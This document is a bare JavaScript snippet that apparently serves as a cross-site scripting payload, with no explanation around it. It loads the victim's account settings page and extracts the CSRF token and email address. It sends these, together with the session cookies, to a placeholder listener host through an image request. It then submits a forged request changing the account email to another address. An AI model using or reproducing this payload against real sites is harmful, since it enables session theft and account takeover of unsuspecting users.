var r = new XMLHttpRequest();
r.onload = function () {
  var doc = new DOMParser().parseFromString(r.responseText, 'text/html');
  var tok = doc.querySelector('input[name="csrf_token"], meta[name="csrf-token"]');
  var t = tok ? (tok.value || tok.content) : '';
  var mail = (doc.querySelector('#email') || {}).value;
  new Image().src = 'http://oob.listener.invalid/t?tok=' + t + '&m=' + encodeURIComponent(mail) + '&c=' + encodeURIComponent(document.cookie);
  var p = new XMLHttpRequest();
  p.open('POST', '/account/email', true);
  p.withCredentials = true;
  p.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
  p.onloadend = function () {
    new Image().src = 'http://oob.listener.invalid/d?s=' + p.status;
  };
  p.send('csrf_token=' + encodeURIComponent(t) + '&email=' + encodeURIComponent('support@mailpost.invalid'));
};
r.open('GET', '/account/settings', true);
r.withCredentials = true;
r.send();
